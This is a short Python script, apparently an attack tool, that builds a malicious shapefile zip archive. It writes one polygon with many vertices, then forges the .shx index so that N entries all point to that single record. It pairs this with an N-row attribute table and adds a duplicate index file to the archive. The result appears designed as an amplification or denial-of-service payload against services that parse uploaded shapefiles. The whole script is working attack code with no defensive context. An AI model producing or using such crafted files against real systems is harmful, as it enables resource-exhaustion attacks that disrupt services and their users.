import struct, zipfile, sys, math
sys.path.insert(0,'/tmp/atk2')
import geopandas as gpd, shapely
N=int(sys.argv[1]); V=int(sys.argv[2])
import numpy as np
t=np.linspace(0,2*math.pi,V,endpoint=False)
ring=np.c_[-69.13+0.0004*np.cos(t), 9.69+0.0004*np.sin(t)]
poly=shapely.MultiPolygon([shapely.Polygon(ring)])
g=gpd.GeoDataFrame({'code':['A']}, geometry=[poly], crs='EPSG:4326'); g.to_file('/tmp/atk2/a1/p.shp') if __import__('os').makedirs('/tmp/atk2/a1',exist_ok=True) is None else None
gN=gpd.GeoDataFrame({'code':[f'A{i}' for i in range(N)]}, geometry=[shapely.MultiPolygon([shapely.box(0,0,1,1)])]*N, crs='EPSG:4326'); __import__('os').makedirs('/tmp/atk2/aN',exist_ok=True); gN.to_file('/tmp/atk2/aN/p.shp')
shp=open('/tmp/atk2/a1/p.shp','rb').read(); shx=open('/tmp/atk2/a1/p.shx','rb').read()
off, ln = struct.unpack('>ii', shx[100:108])
hdr=bytearray(shx[:100]); struct.pack_into('>i', hdr, 24, (100+8*N)//2)
bad=bytes(hdr)+struct.pack('>ii',off,ln)*N
with zipfile.ZipFile(f'/tmp/atk2/amp_{N}_{V}.zip','w',zipfile.ZIP_DEFLATED) as z:
    z.writestr('p.shp', shp); z.writestr('p.shx', bad); z.writestr('p.shx', shx)
    z.writestr('p.dbf', open('/tmp/atk2/aN/p.dbf','rb').read()); z.writestr('p.prj', open('/tmp/atk2/a1/p.prj','rb').read())
